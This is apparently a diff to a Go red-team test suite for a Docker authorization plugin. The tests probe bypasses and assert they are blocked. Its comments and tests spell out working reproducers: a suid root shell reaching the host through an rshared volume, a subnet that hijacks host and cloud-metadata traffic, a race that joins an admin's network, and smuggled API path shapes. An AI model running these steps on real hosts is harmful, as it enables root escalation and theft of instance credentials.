@@ -2,6 +2,7 @@ package cmd
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net"
@@ -9,6 +10,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"runtime"
 	"strings"
 	"syscall"
 	"testing"
@@ -113,7 +115,7 @@ func startRedTeam2(t *testing.T) *redTeam2 {
 	require.NoError(t, err)
 	t.Cleanup(func() { assert.NoError(t, d.Stop()) })
 	require.NoError(t, d.TinyImage(context.Background(), "tiny:1"))
-	importImage(t, d, "tool:1", map[string]string{"tool": buildTool(t)})
+	importImage(t, d, "tool:1", map[string]string{"tool": buildTool(t), "tool2": buildTool2(t)})
 
 	secretDir, err := os.MkdirTemp("", "dtls-redteam2-secret-")
 	require.NoError(t, err)
@@ -138,6 +140,86 @@ func startRedTeam2(t *testing.T) *redTeam2 {
 	}
 	r.base = fmt.Sprintf("https://127.0.0.1:%d", port)
 	return r
+}
+
+// tool2Source is a second static program for the attack containers:
+// serve answers TCP connections with a text, sched asks for real-time
+// scheduling and gives it up at once.
+const tool2Source = `package main
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"syscall"
+	"unsafe"
+)
+
+func main() {
+	switch os.Args[1] {
+	case "serve": // serve ADDR TEXT
+		ln, err := net.Listen("tcp", os.Args[2])
+		if err != nil {
+			fmt.Println(err)
+			os.Exit(1)
+		}
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				continue
+			}
+			_, _ = c.Write([]byte(os.Args[3] + "\n"))
+			c.Close()
+		}
+	case "sched": // sched: SCHED_FIFO priority 1, then back to SCHED_OTHER
+		prio := int32(1)
+		_, _, e := syscall.RawSyscall(syscall.SYS_SCHED_SETSCHEDULER, 0, 1, uintptr(unsafe.Pointer(&prio)))
+		zero := int32(0)
+		_, _, _ = syscall.RawSyscall(syscall.SYS_SCHED_SETSCHEDULER, 0, 0, uintptr(unsafe.Pointer(&zero)))
+		if e != 0 {
+			fmt.Println("sched_setscheduler:", e)
+			os.Exit(1)
+		}
+		fmt.Println("SCHED_FIFO granted")
+	}
+}
+`
+
+func buildTool2(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "main.go"), []byte(tool2Source), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/redteamtool2\n\ngo 1.26\n"), 0o644))
+	goBin, err := exec.LookPath("go")
+	if err != nil {
+		goBin = filepath.Join(runtime.GOROOT(), "bin", "go")
+	}
+	out := filepath.Join(dir, "tool2")
+	cmd := exec.Command(goBin, "build", "-o", out, ".")
+	cmd.Dir = dir
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=")
+	b, err := cmd.CombinedOutput()
+	require.NoError(t, err, "build the second tool: %s", b)
+	return out
+}
+
+// dialRead connects to addr and reads the first line, polling until the
+// deadline.
+func dialRead(addr string, d time.Duration) string {
+	deadline := time.Now().Add(d)
+	for time.Now().Before(deadline) {
+		c, err := net.DialTimeout("tcp", addr, time.Second)
+		if err == nil {
+			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
+			b, _ := io.ReadAll(io.LimitReader(c, 256))
+			c.Close()
+			if len(b) > 0 {
+				return strings.TrimSpace(string(b))
+			}
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	return ""
 }
 
 // asUser runs a host program as uid/gid 65534, dev's host account.
@@ -262,6 +344,258 @@ func TestRedTeamAuthz2(t *testing.T) {
 		assert.NotEqual(t, "0", euid, "uid 65534 ran a file of its workspace as root: the container's volume propagated into the nosuid workspace")
 	})
 
-	_ = adminBox
-	_ = net.Listen
+	// Bypass (same hole, through a volume): a local volume that binds the
+	// root itself (o=bind, device=the root: allowed) mounted with the
+	// Binds mode "rshared".
+	//
+	// Reproducer:
+	//
+	//	docker volume create -o type=none -o o=bind -o device=/srv/work/alice wsvol
+	//	docker run -d --name p -v wsvol:/ws:rshared --tmpfs /ws/t:exec,suid,dev alpine sleep 1d
+	//	docker exec p sh -c 'cp /bin/busybox /ws/t/sh && chmod 4755 /ws/t/sh'
+	//	# on the host, as alice:  /srv/work/alice/t/sh -c id   # euid=0
+	t.Run("Bypass_rshared_bind_volume_propagates_suid_tmpfs_to_host", func(t *testing.T) {
+		r.must("dev", "volume", "create", "-o", "type=none", "-o", "o=bind", "-o", "device="+r.ws, "wsvol")
+		out, err := r.as("dev", "run", "-d", "-v", "wsvol:/ws:rshared", "--tmpfs", "/ws/t2:exec,suid,dev", "tool:1", "/tool", "sleep")
+		if err != nil {
+			t.Logf("dev: docker run -v wsvol:/ws:rshared --tmpfs /ws/t2:exec,suid,dev: %s", tailString(out, 300))
+			return
+		}
+		box := strings.TrimSpace(out)
+		defer func() { _, _ = r.as("dev", "rm", "-f", box) }()
+		out, err = r.as("dev", "exec", box, "/tool", "suid", "/ws/t2/rootsh")
+		require.NoError(t, err, out)
+		rootsh := filepath.Join(r.ws, "t2", "rootsh")
+		if !waitFile(rootsh, 5*time.Second) {
+			t.Logf("the tmpfs below the volume did not reach the host: %s is not there", rootsh)
+			return
+		}
+		euid, err := asUser(rootsh, "euid")
+		t.Logf("host: uid 65534 runs %s: err=%v euid=%s", rootsh, err, euid)
+		assert.NotEqual(t, "0", euid, "uid 65534 ran a file of its workspace as root: the container's suid tmpfs propagated into the nosuid workspace")
+	})
+
+	// Bypass: a developer's network takes any subnet (IPAM Config is not
+	// read by the plugin); the host routes it to the network's bridge, a
+	// route more specific than the host's own. A container of the
+	// developer given an address in it (--ip) receives the host's traffic
+	// to that address: a DNS resolver, the cloud metadata service
+	// (169.254.169.254: cloud-init's user-data, instance credentials), the
+	// online CA, a database; with the host's gateway in the subnet, the
+	// host loses its network.
+	//
+	// Reproducer (198.51.100.0/29 stands for the host's metadata, DNS or
+	// CA address):
+	//
+	//	docker network create --subnet 198.51.100.0/29 --gateway 198.51.100.1 grab
+	//	docker run -d --network grab --ip 198.51.100.2 alpine nc -lk -p 80 -e echo hijacked
+	//	# on the host: curl http://198.51.100.2/   -> the developer's container answers
+	//
+	// Fix direction: a developer's network takes only a subnet from the
+	// daemon's default address pools (IPAM.Config empty, or inside
+	// "default-address-pools"), never one that overlaps a host route or
+	// address; no --ip/--ip-range outside it.
+	t.Run("Bypass_network_subnet_takes_host_traffic", func(t *testing.T) {
+		out, err := r.as("dev", "network", "create", "--subnet", "198.51.100.0/29", "--gateway", "198.51.100.1", "grab")
+		if err != nil {
+			assert.Contains(t, out, "dtls-authz", "refused, but not by the plugin: %s", out)
+			t.Logf("dev: docker network create --subnet 198.51.100.0/29: %s", tailString(out, 300))
+			return
+		}
+		defer func() { _, _ = r.as("dev", "network", "rm", "grab") }()
+		out, err = r.as("dev", "run", "-d", "--network", "grab", "--ip", "198.51.100.2", "tool:1", "/tool2", "serve", ":80", "hijacked-by-dev")
+		require.NoError(t, err, out)
+		box := strings.TrimSpace(out)
+		defer func() { _, _ = r.as("dev", "rm", "-f", box) }()
+		got := dialRead("198.51.100.2:80", 10*time.Second)
+		t.Logf("host: connect 198.51.100.2:80 -> %q", got)
+		assert.NotEqual(t, "hijacked-by-dev", got, "the host's connection to 198.51.100.2 reached the developer's container: a developer's network rerouted the host's traffic")
+	})
+
+	// Finding (logged): a developer publishes a port on the host's
+	// loopback, a privileged one too: dockerd binds it as root. A host
+	// service or client that trusts 127.0.0.1 (a local registry at
+	// localhost:5000, which dockerd itself pulls from without TLS; the
+	// plugin's --docker lookups go to a unix socket) talks to the
+	// developer's container. README lists ports among the fields that
+	// "act inside the container".
+	t.Run("Finding_developer_listens_on_host_loopback_privileged_port", func(t *testing.T) {
+		l, err := net.Listen("tcp", "127.0.0.1:0")
+		require.NoError(t, err)
+		free := l.Addr().(*net.TCPAddr).Port
+		l.Close()
+		_ = free
+		out, err := r.as("dev", "run", "-d", "-p", "127.0.0.1:81:80", "tool:1", "/tool2", "serve", ":80", "dev-on-loopback")
+		if err != nil {
+			t.Logf("dev: docker run -p 127.0.0.1:81:80: %s", tailString(out, 300))
+			return
+		}
+		box := strings.TrimSpace(out)
+		defer func() { _, _ = r.as("dev", "rm", "-f", box) }()
+		got := dialRead("127.0.0.1:81", 10*time.Second)
+		t.Logf("host: connect 127.0.0.1:81 (a port below 1024, root's) -> %q", got)
+	})
+
+	// Checked: --ulimit rtprio (Ulimits, "anyValue") lets a process ask
+	// for real-time scheduling without CAP_SYS_NICE, what CpuRealtime*
+	// are refused for. With RT group scheduling in the kernel (this
+	// host's: cpu.rt_runtime_us), a container's cgroup has no real-time
+	// time and the kernel refuses; a kernel without
+	// CONFIG_RT_GROUP_SCHED (Ubuntu's, Debian's) grants it.
+	t.Run("Checked_ulimit_rtprio_asks_for_realtime", func(t *testing.T) {
+		out, err := r.as("dev", "run", "--rm", "--ulimit", "rtprio=99", "tool:1", "/tool2", "sched")
+		_, rtGroup := os.Stat("/sys/fs/cgroup/cpu/cpu.rt_runtime_us")
+		t.Logf("dev: docker run --ulimit rtprio=99 ... sched_setscheduler(SCHED_FIFO): err=%v %s (RT group scheduling: %v)", err, tailString(out, 200), rtGroup == nil)
+		if rtGroup == nil {
+			assert.NotContains(t, out, "SCHED_FIFO granted")
+		}
+	})
+
+	// Checked: Sysctls net.* that are global to the kernel (not per
+	// network namespace) are not in a container's /proc/sys: runc fails.
+	t.Run("Checked_global_net_sysctl", func(t *testing.T) {
+		before, err := os.ReadFile("/proc/sys/net/core/rmem_max")
+		require.NoError(t, err)
+		out, err := r.as("dev", "run", "--rm", "--sysctl", "net.core.rmem_max=4194305", "tool:1", "/tool", "euid")
+		after, _ := os.ReadFile("/proc/sys/net/core/rmem_max")
+		if string(after) != string(before) {
+			_ = os.WriteFile("/proc/sys/net/core/rmem_max", before, 0o644)
+		}
+		t.Logf("dev: docker run --sysctl net.core.rmem_max=...: err=%v %s; host %s -> %s", err, tailString(out, 200), strings.TrimSpace(string(before)), strings.TrimSpace(string(after)))
+		assert.Equal(t, string(before), string(after), "a developer's container changed a host-wide sysctl")
+	})
+
+	// Bypass: the rule "a reference that reads as an ID prefix but names by
+	// name is refused" is applied to containers and to a network's
+	// removal, not to the networks a container joins (checkNetworkName:
+	// NetworkMode, EndpointsConfig, POST /networks/{id}/connect). The
+	// developer names its network after a prefix of the admin's network's
+	// ID and asks to connect its container to it by that name while it
+	// removes the network by its full ID: judged on its own network (by
+	// name), the connect is done by dockerd after the removal, by ID
+	// prefix, on the admin's network (FindNetwork: full ID, name, ID
+	// prefix).
+	//
+	// Reproducer (P is a prefix of the admin's network's ID, 12 hex):
+	//
+	//	docker network create P                       # N, the developer's
+	//	curl ... -X POST /networks/P/connect -d '{"Container":"devbox"}' &
+	//	curl ... -X DELETE /networks/N
+	//	docker inspect devbox    # on the admin's network (won within tries)
+	//
+	// Fix direction: checkNetworkName does what owned does: a hex
+	// reference that does not prefix the ID of the network it names is
+	// refused.
+	t.Run("Bypass_network_join_by_hex_name_races_its_removal", func(t *testing.T) {
+		adminNet := r.must("root-admin", "network", "inspect", "-f", "{{.Id}}", "adminnet")
+		prefix := adminNet[:12]
+		try := func(method, path, body string) (int, string) {
+			var rd io.Reader
+			if body != "" {
+				rd = strings.NewReader(body)
+			}
+			req, err := http.NewRequest(method, r.base+path, rd)
+			if err != nil {
+				return 0, err.Error()
+			}
+			if body != "" {
+				req.Header.Set("Content-Type", "application/json")
+			}
+			resp, err := r.client["dev"].Do(req)
+			if err != nil {
+				return 0, err.Error()
+			}
+			defer resp.Body.Close()
+			b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
+			return resp.StatusCode, string(b)
+		}
+		deadline := time.Now().Add(40 * time.Second)
+		tries, allowed, won := 0, 0, false
+		for !won && time.Now().Before(deadline) {
+			tries++
+			st, out := try("POST", "/networks/create", `{"Name":"`+prefix+`"}`)
+			if st != 201 {
+				t.Fatalf("create network %s: %d %s", prefix, st, out)
+			}
+			var n struct {
+				ID string `json:"Id"`
+			}
+			require.NoError(t, json.Unmarshal([]byte(out), &n))
+			done := make(chan struct{})
+			var cst int
+			var cout string
+			go func() {
+				cst, cout = try("POST", "/networks/"+prefix+"/connect", `{"Container":"devbox"}`)
+				close(done)
+			}()
+			time.Sleep(time.Duration(tries%12) * 200 * time.Microsecond)
+			try("DELETE", "/networks/"+n.ID, "")
+			<-done
+			if cst/100 == 2 {
+				allowed++
+			} else if strings.Contains(cout, "reads as an ID prefix") {
+				t.Logf("closed: %s", tailString(cout, 200))
+				try("DELETE", "/networks/"+n.ID, "")
+				return
+			}
+			ins := r.must("root-admin", "inspect", "-f", "{{range $k, $v := .NetworkSettings.Networks}}{{$v.NetworkID}} {{end}}", "devbox")
+			if strings.Contains(ins, adminNet) {
+				won = true
+				t.Logf("try %d: connect %s answered %d; devbox is on the admin's network %s", tries, prefix, cst, adminNet[:12])
+				_, _ = r.as("root-admin", "network", "disconnect", "-f", adminNet, "devbox")
+			}
+			_, _ = r.as("root-admin", "network", "disconnect", "-f", n.ID, "devbox")
+			_, _ = r.as("root-admin", "network", "rm", n.ID)
+		}
+		t.Logf("%d tries, %d connects allowed", tries, allowed)
+		assert.False(t, won, "the developer's container joined the admin's network")
+	})
+
+	// Refused shapes (regression): references that read as ID prefixes
+	// but name the developer's own container or network, in every place
+	// a container names another.
+	hexBox := adminBox[:12]
+	r.must("dev", "create", "--name", hexBox, "tool:1", "/tool", "sleep")
+	adminNet := r.must("root-admin", "network", "inspect", "-f", "{{.Id}}", "adminnet")
+	hexNet := adminNet[:12]
+	r.must("dev", "network", "create", hexNet)
+	for _, s := range [][]string{
+		{"create", "--link", hexBox + ":db", "tool:1", "/x"},
+		{"create", "--volumes-from", hexBox, "tool:1", "/x"},
+		{"create", "--network", "container:" + hexBox, "tool:1", "/x"},
+		{"create", "--pid", "container:" + hexBox, "tool:1", "/x"},
+		{"network", "connect", "adminnet", hexBox},
+		{"network", "rm", hexNet},
+		{"rename", hexBox, "x"},
+		{"rm", hexBox},
+	} {
+		out, err := r.as("dev", s...)
+		if !assert.Error(t, err, "BYPASS dev: docker %s was allowed: %s", strings.Join(s, " "), out) {
+			continue
+		}
+		assert.Contains(t, out, "dtls-authz", "dev: docker %s refused, but not by the plugin: %s", strings.Join(s, " "), out)
+		t.Logf("denied  docker %-60s %s", strings.Join(s, " "), tailString(strings.TrimSpace(out), 160))
+	}
+	// Raw shapes: uppercase hex, a leading "/", an exec on the
+	// developer's container by an uppercase ID prefix.
+	for _, s := range []struct{ name, method, path, body string }{
+		{"kill admin's by uppercase ID prefix", "POST", "/containers/" + strings.ToUpper(adminBox[:12]) + "/kill", ""},
+		{"kill admin's by /ID prefix", "POST", "/containers//" + adminBox[:12] + "/kill", ""},
+		{"kill admin's by full ID with /", "POST", "/containers/%2F" + adminBox + "/kill", ""},
+		{"exec in admin's by ID prefix with trailing space", "POST", "/containers/" + adminBox[:12] + "%20/exec", `{"Cmd":["/tool","euid"]}`},
+		{"Mounts bind with Propagation rshared of a path below the root", "POST", "/containers/create",
+			`{"Image":"tool:1","HostConfig":{"Mounts":[{"Type":"bind","Source":"` + r.ws + `/real","Target":"/x","BindOptions":{"Propagation":"rshared"}}]}}`},
+		{"Tmpfs on a host path target", "POST", "/containers/create", `{"Image":"tool:1","HostConfig":{"Tmpfs":{"/x":"exec,suid,dev"},"Binds":["/etc:/y"]}}`},
+	} {
+		ctype := ""
+		if s.body != "" {
+			ctype = "application/json"
+		}
+		status, out := r.raw("dev", s.method, s.path, ctype, s.body)
+		if status/100 == 2 {
+			t.Errorf("BYPASS %s: %s %s answered %d: %s", s.name, s.method, s.path, status, tailString(out, 300))
+			continue
+		}
+		t.Logf("refused %-55s %d %s", s.name, status, tailString(out, 160))
+	}
 }
